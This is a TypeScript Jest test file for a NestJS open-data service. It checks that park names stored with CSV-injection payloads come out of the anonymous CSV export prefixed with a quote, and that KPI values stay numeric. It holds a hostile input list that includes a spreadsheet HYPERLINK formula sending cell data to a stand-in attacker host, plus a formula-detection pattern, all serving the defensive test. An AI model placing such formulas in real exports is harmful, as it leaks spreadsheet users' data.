// Finding 9 of issue 15 (CSV injection) in open data: park names and codes as operators stored them are
// served in the anonymous CSV; one that starts a formula must come out as text, numbers as numbers.
import { INestApplication } from '@nestjs/common';
import { ComplianceWriter } from '@hp/compliance';
import { RegistryAdmin } from '@hp/registry';
import { startOpenDataApp } from './open-data-test-app';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180 records and fields (quoted fields may hold commas, CR and LF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  const pattern = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/g;
  for (const m of text.replace(/^\uFEFF/, '').matchAll(pattern)) {
    if (m[0] === '') break;
    records[records.length - 1].push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
    if (m[3] === '\r\n') records.push([]);
  }
  return records.filter((r) => r.length > 1 || (r.length === 1 && r[0] !== ''));
}

describe('open data CSV: formula-leading park names are neutralised (PostgreSQL)', () => {
  let app: INestApplication;
  let url: string;
  let close: (() => Promise<void>) | undefined;

  beforeAll(async () => {
    ({ app, url, close } = await startOpenDataApp());
    for (const [i, name] of HOSTILE.entries()) {
      const park = await app
        .get(RegistryAdmin)
        .registerPark({ code: `OD${i}`, name, operatingStatus: 'operating' });
      const plant = await app
        .get(RegistryAdmin)
        .registerTreatmentPlant({
          code: `OD${i}-CETP`,
          parkId: park.id,
          name: name,
          operatingStatus: 'operating',
        });
      const station = await app
        .get(RegistryAdmin)
        .registerStation({ code: `OD${i}-OUT`, plantId: plant.id, name, kind: 'outlet' });
      await app.get(ComplianceWriter).storeStationDays([
        {
          stationId: station.id,
          day: '2026-03-01',
          permitId: null,
          verdict: 'exceedance',
          reasons: [{ code: 'TEXT', params: { text: name } }],
        },
      ]);
    }
  }, 60_000);

  afterAll(async () => {
    await close?.();
  });

  it('serves each hostile park name with a leading quote, and the counts as plain numbers', async () => {
    const response = await fetch(`${url}/open/v1/parks/daily?from=2026-03-01&to=2026-03-02&format=csv`);
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const name = header.indexOf('parkName');
    const outlets = header.indexOf('outlets');
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows.map((r) => r[name]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    expect(rows.flat().filter((field) => FORMULA_START.test(field))).toEqual([]);
    expect(rows.map((r) => r[outlets])).toEqual(HOSTILE.map(() => '1'));
  });

  it('keeps the KPI values numeric in CSV', async () => {
    const response = await fetch(`${url}/open/v1/kpi?period=month&date=2026-03-01&format=csv`);
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const value = header.indexOf('value');
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(r[value]).toMatch(/^(-?\d+(\.\d+)?(e-?\d+)?)?$/);
    expect(rows.flat().filter((field) => FORMULA_START.test(field))).toEqual([]);
  });
});
